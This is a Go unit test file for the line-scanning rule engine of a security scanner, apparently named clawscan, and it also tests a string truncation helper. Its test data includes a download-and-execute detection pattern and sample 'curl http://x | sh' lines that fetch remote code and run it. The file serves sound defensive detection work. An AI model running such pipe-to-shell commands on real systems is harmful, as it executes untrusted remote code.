package ruleengine

import (
	"regexp"
	"testing"

	"clawscan/internal/catalog"
)

func rule(id, pattern string, sev catalog.Severity) catalog.Rule {
	return catalog.Rule{
		ID:          id,
		Pattern:     regexp.MustCompile("(?i)" + pattern),
		Severity:    sev,
		Description: id,
	}
}

func TestScanLinesEmitsOnePerMatchingLine(t *testing.T) {
	rules := []catalog.Rule{rule("downloadExecute", `curl.*\|\s*sh`, catalog.SeverityCritical)}
	content := "echo hi\ncurl http://x | sh\necho done\ncurl http://y | sh\n"

	matches := ScanLines(content, rules)
	if len(matches) != 2 {
		t.Fatalf("expected 2 matches, got %d: %+v", len(matches), matches)
	}
	if matches[0].Line != 2 || matches[1].Line != 4 {
		t.Fatalf("unexpected line numbers: %+v", matches)
	}
}

func TestScanLinesMultipleRulesOnSameLine(t *testing.T) {
	rules := []catalog.Rule{
		rule("ruleA", `curl`, catalog.SeverityWarning),
		rule("ruleB", `sh$`, catalog.SeverityCritical),
	}
	content := "curl http://x | sh"
	matches := ScanLines(content, rules)
	if len(matches) != 2 {
		t.Fatalf("expected 2 matches from 2 rules on the same line, got %d", len(matches))
	}
}

func TestScanLinesNoMatchReturnsNil(t *testing.T) {
	rules := []catalog.Rule{rule("x", `nomatch`, catalog.SeverityInfo)}
	if got := ScanLines("hello world", rules); got != nil {
		t.Fatalf("expected nil, got %+v", got)
	}
}

func TestTruncateAppendsEllipsisOnlyWhenLonger(t *testing.T) {
	if got := Truncate("short", 10); got != "short" {
		t.Fatalf("unexpected truncation of short string: %q", got)
	}
	long := "this string is definitely longer than twenty chars"
	got := Truncate(long, 20)
	if len([]rune(got)) != 23 {
		t.Fatalf("expected 20 chars + ellipsis, got %q (%d)", got, len([]rune(got)))
	}
}
